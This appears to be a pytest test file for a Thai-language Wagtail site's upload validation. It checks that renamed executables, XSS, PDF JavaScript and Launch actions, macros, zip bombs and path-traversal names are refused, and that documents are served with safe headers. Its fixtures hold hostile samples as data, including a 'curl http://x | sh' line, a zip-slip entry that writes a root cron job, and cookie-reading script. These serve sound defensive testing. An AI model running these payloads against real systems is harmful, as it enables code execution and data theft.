"""Hostile uploads: renamed programs, script, zip bombs, PDF actions, oversized files and
dangerous names, refused with a Thai message on every path (Wagtail documents: add,
multiple upload, chooser; images; citizen attachments), and documents served safely."""

import io
import struct
import time
import unicodedata
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from wagtail.documents import get_document_model
from wagtail.images import get_image_model
from wagtail.models import Collection

from moit_wagtail.files import allowed_extensions
from moit_wagtail.uploads import checks
from moit_wagtail.uploads.filenames import safe_filename
from tests import factories

PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"


def object_stream_pdf(objects):
    """A PDF 1.5 whose dictionaries sit in a Flate-compressed object stream."""
    body = zlib.compress(objects)
    return (
        b"%PDF-1.7\n1 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
        + str(len(body)).encode()
        + b" >>\nstream\n"
        + body
        + b"\nendstream\nendobj\n%%EOF\n"
    )


OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
LIMIT = 20 * 1024 * 1024


def upload(name, content):
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def zip_bytes(members, compression=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx(**extra):
    return zip_bytes(
        {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>", **extra}
    )


def odt(mimetype=b"application/vnd.oasis.opendocument.text"):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", "<office:document-content/>")
    return buffer.getvalue()


def overlapping_zip(copies=50):
    """A "non-recursive" zip bomb: many directory entries share one compressed member."""
    data = zip_bytes({"[Content_Types].xml": "<Types/>", "word/document.xml": b"A" * 4096})
    end = data.rindex(b"PK\x05\x06")
    count, size, offset = struct.unpack("<HII", data[end + 10 : end + 20])
    directory = data[offset : offset + size]
    last = directory.rindex(b"PK\x01\x02")
    entry = directory[last:]
    directory += entry * copies
    count += copies
    eocd = data[end : end + 10] + struct.pack("<HII", count, len(directory), offset) + b"\x00\x00"
    return data[:offset] + directory + eocd


def encrypted_zip():
    data = bytearray(zip_bytes({"a.txt": b"secret"}))
    central = data.rindex(b"PK\x01\x02")
    data[central + 8] |= 0x1  # "encrypted" flag in the central directory
    return bytes(data)


def refusal(name, content, allowed=None, max_bytes=LIMIT):
    with pytest.raises(ValidationError) as caught:
        checks.check_upload(upload(name, content), allowed or allowed_extensions(), max_bytes)
    return caught.value


HOSTILE = [
    # renamed programs
    ("invoice.pdf", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 60, "program"),
    ("report.docx", b"\x7fELF\x02\x01\x01" + b"\x00" * 60, "program"),
    ("budget.pdf", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01", "program"),
    ("plan.pdf", b"#!/bin/sh\ncurl http://x | sh\n", "program"),
    ("notes.txt", b"#!/usr/bin/env python\nimport os\n", "program"),
    # wrong content for the extension
    ("minutes.doc", b"{\\rtf1\\ansi hello}", "file_content"),
    ("sheet.xls", b"%PDF-1.4\n", "file_content"),
    ("photo.jpg", factories.png_bytes(), "file_content"),
    (
        "letter.docx",
        zip_bytes({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<w/>"}),
        "file_content",
    ),  # fmt: skip
    ("letter.docx", zip_bytes({"word/document.xml": "<w:document/>"}), "file_content"),
    ("slides.odt", odt(b"application/vnd.oasis.opendocument.presentation"), "file_content"),
    ("data.csv", b"a,b\x00\x00\x01\x02binary", "file_content"),
    # script in text and markup
    ("page.html", b"<html><script>alert(1)</script></html>", "file_type"),
    ("drawing.svg", b"<svg onload='alert(1)'/>", "file_type"),
    ("readme.txt", b"hello <script>alert(document.cookie)</script>", "script"),
    ("list.csv", b"name,note\nx,<img src=x onerror=alert(1)>\n", "script"),
    ("list.csv", b'name,link\nx,<a href="javascript:alert(1)">y</a>\n', "script"),
    ("utf16.txt", "<script>alert(1)</script>".encode("utf-16"), "script"),
    # PDF actions
    ("form.pdf", PDF + b"<< /S /JavaScript /JS (app.alert(1)) >>", "pdf_actions"),
    ("form.pdf", PDF + b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>", "pdf_actions"),
    ("run.pdf", PDF + b"<< /S /Launch /F (cmd.exe) >>", "pdf_actions"),
    (
        "packed.pdf",
        object_stream_pdf(b"2 0 << /S /JavaScript /JS (app.alert(1)) >>"),
        "pdf_actions",
    ),
    ("packed.pdf", object_stream_pdf(b"2 0 << /S /J#61vaScript /J#53 (x) >>"), "pdf_actions"),
    # containers
    ("macro.docx", docx(**{"word/vbaProject.bin": b"\x00"}), "macros"),
    ("bomb.docx", docx(**{"word/media/big.bin": b"\x00" * (8 * 1024 * 1024)}), "zip_ratio"),
    ("overlap.docx", overlapping_zip(), "zip_bomb"),
    ("nested.zip", zip_bytes({"inner/42.zip": zip_bytes({"a": b"a"})}), "nested"),
    ("tools.zip", zip_bytes({"setup.exe": b"MZ"}), "nested"),
    ("slip.zip", zip_bytes({"../../etc/cron.d/x": b"* * * * * root sh"}), "nested"),
    ("locked.zip", encrypted_zip(), "encrypted"),
    ("broken.xlsx", b"PK\x03\x04 not really a zip", "damaged"),
    ("empty.pdf", b"", "file_empty"),
]


@pytest.mark.parametrize("name, content, code", HOSTILE, ids=[f"{n}-{c}" for n, _, c in HOSTILE])
def test_hostile_files_are_refused_with_a_clear_message(name, content, code):
    error = refusal(name, content)
    assert error.code == code
    assert safe_filename(name) in error.messages[0]


@pytest.mark.parametrize("code", sorted(checks.MESSAGES))
def test_every_refusal_is_explained_in_thai(code):
    """Fails until the Thai catalogue (compiled from /work/tmp/th_uploads.py) has them."""
    with translation.override("th"):
        message = str(checks.MESSAGES[code])
    assert any("\u0e00" <= ch <= "\u0e7f" for ch in message), message


@pytest.mark.parametrize(
    "name, content",
    [
        ("report.pdf", PDF),
        ("report.pdf", object_stream_pdf(b"2 0 << /Type /Page /Contents 3 0 R >>")),
        ("minutes.doc", OLE2),
        ("sheet.xls", OLE2),
        ("letter.docx", docx(**{"word/embeddings/chart.xlsx": b"PK\x03\x04"})),
        ("budget.xlsx", zip_bytes({"[Content_Types].xml": "<T/>", "xl/workbook.xml": "<w/>"})),
        ("minutes.odt", odt()),
        ("photos.zip", zip_bytes({"รูป/กิจกรรม.jpg": b"\xff\xd8\xff", "list.csv": b"a,b"})),
        ("data.csv", "ชื่อ,หมายเหตุ\nสมชาย,<b>ตัวหนา</b> ส่ง online=yes\n".encode()),
        ("thai-windows.csv", "ชื่อ,จำนวน\n".encode("cp874")),
        ("notes.txt", b"PDF action names like /JS are fine in plain text"),
        ("photo.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 20),
        ("chart.png", factories.png_bytes()),
    ],
)
def test_honest_files_pass(name, content):
    checks.check_upload(upload(name, content), allowed_extensions(), LIMIT)


def test_zip_limits_follow_the_settings(settings):
    many = zip_bytes({f"{n}.txt": b"x" for n in range(12)})
    settings.MOIT_UPLOAD_MAX_ARCHIVE_MEMBERS = 10
    assert refusal("many.zip", many).code == "archive_members"
    settings.MOIT_UPLOAD_MAX_ARCHIVE_MEMBERS = 10_000
    settings.MOIT_UPLOAD_MAX_UNPACKED_MB = 1
    big = zip_bytes({"a.txt": bytes(range(256)) * 5000})  # 1.2 MB, barely compressible
    error = refusal("big.zip", big)
    assert error.code == "zip_bomb" and "MB" in error.messages[0]


class NoReading(io.BytesIO):
    def read(self, *args):
        raise AssertionError("an oversized file must be refused before it is read")


def test_an_oversized_file_is_refused_before_it_is_read():
    big = SimpleUploadedFile("scan.pdf", b"")
    big.file, big.size = NoReading(), 50 * 1024 * 1024
    with pytest.raises(ValidationError) as caught:
        checks.check_upload(big, ["pdf"], 20 * 1024 * 1024)
    assert caught.value.code == "file_size"


@pytest.mark.parametrize(
    "name, safe",
    [
        ("หลักฐาน การประชุม.pdf", "หลักฐาน_การประชุม.pdf"),  # Thai vowels and tone marks kept
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\Users\\me\\รายงาน.docx", "รายงาน.docx"),
        ("report.pdf.exe", "report-pdf.exe"),
        ("รายงาน.exe.pdf", "รายงาน-exe.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),  # right-to-left override removed
        ("\x00\x1b[31m.pdf", "31m.pdf"),
        ("...hidden.pdf", "hidden.pdf"),
        ("NUL.txt", "file-NUL.txt"),
        ("<script>.csv", "script.csv"),
    ],
)
def test_safe_filenames(name, safe):
    assert safe_filename(name) == safe


def test_long_thai_names_are_capped_without_splitting_a_letter():
    original = "การประชุมคณะกรรมการสาธารณสุขจังหวัด" * 10
    name = safe_filename(original + ".pdf")
    stem = name.removesuffix(".pdf")
    assert len(name) <= 80 and len(name.encode()) <= 200
    assert original.startswith(stem)
    following = original[len(stem)]
    assert not unicodedata.category(following).startswith("M")  # no orphaned vowel or tone


# -- Wagtail documents and images ---------------------------------------------------------


@pytest.fixture
def admin(client, admin_user):
    client.force_login(admin_user)
    return client


def root_collection():
    return Collection.get_first_root_node().pk


def test_admin_document_upload_refuses_a_renamed_program(admin):
    response = admin.post(
        reverse("wagtaildocs:add"),
        {
            "title": "ใบแจ้งหนี้",
            "collection": root_collection(),
            "file": upload("invoice.pdf", b"MZ\x90\x00" * 20),
        },  # fmt: skip
    )
    assert response.status_code == 200
    assert not get_document_model().objects.exists()
    with translation.override("th"):
        expected = str(checks.MESSAGES["program"] % {"name": "invoice.pdf", "kind": "Windows"})
    assert expected in response.content.decode()


def test_admin_document_upload_stores_a_safe_thai_name(admin):
    response = admin.post(
        reverse("wagtaildocs:add"),
        {
            "title": "รายงาน",
            "collection": root_collection(),
            "file": upload("../รายงาน ประจำปี.exe.pdf", PDF),
        },  # fmt: skip
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    document = get_document_model().objects.get()
    assert document.filename == "รายงาน_ประจำปี-exe.pdf"


def test_multiple_upload_refuses_a_zip_bomb(admin):
    bomb = docx(**{"word/media/big.bin": b"\x00" * (8 * 1024 * 1024)})
    response = admin.post(
        reverse("wagtaildocs:add_multiple"),
        {"collection": root_collection(), "files[]": upload("bomb.docx", bomb)},
    )
    data = response.json()
    assert data["success"] is False and "bomb.docx" in data["error_message"]
    assert not get_document_model().objects.exists()


def test_chooser_upload_refuses_a_csv_with_script(admin):
    response = admin.post(
        reverse("wagtaildocs_chooser:create"),
        {
            "document-chooser-upload-title": "รายชื่อ",
            "document-chooser-upload-collection": root_collection(),
            "document-chooser-upload-file": upload("list.csv", b"a,<script>alert(1)</script>"),
        },
    )
    assert "list.csv" in response.content.decode()
    assert not get_document_model().objects.exists()


def test_image_upload_refuses_svg_and_sanitises_names(admin, settings):
    settings.WAGTAILIMAGES_EXTENSIONS = ["png", "jpg", "jpeg", "svg"]  # even if a site adds SVG
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    response = admin.post(
        reverse("wagtailimages:add"),
        {"title": "โลโก้", "collection": root_collection(), "file": upload("logo.svg", svg)},
    )
    assert response.status_code == 200 and not get_image_model().objects.exists()
    assert "SVG" in response.content.decode()
    response = admin.post(
        reverse("wagtailimages:add"),
        {
            "title": "แผนภูมิ",
            "collection": root_collection(),
            "file": upload("a/chart.exe.png", factories.png_bytes()),
        },  # fmt: skip
    )
    assert response.status_code == 302
    assert get_image_model().objects.get().file.name.endswith("chart-exe.png")


# -- serving -------------------------------------------------------------------------------


def test_documents_are_served_with_safe_headers(client, db):
    pdf = factories.make_document("รายงาน.pdf", PDF)
    response = client.get(pdf.url)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("inline")
    assert "filename*=utf-8''%e0%b8%a3" in response["Content-Disposition"].lower()
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "default-src 'none'" in response["Content-Security-Policy"]
    assert "sandbox" not in response["Content-Security-Policy"]  # Chromium's PDF viewer

    sheet = factories.make_document("data.csv", b"a,b\n")
    response = client.get(sheet.url)
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert "default-src 'none'" in response["Content-Security-Policy"]


def test_a_compression_bomb_in_a_pdf_stream_is_inflated_within_bounds():
    bomb = object_stream_pdf(b"\x00" * (200 * 1024 * 1024) + b"<< /JS (late) >>")
    started = time.monotonic()
    checks.check_upload(SimpleUploadedFile("big.pdf", bomb), ["pdf"], 20 * 1024 * 1024)
    assert time.monotonic() - started < 3  # stopped at the inflating budget, memory bounded
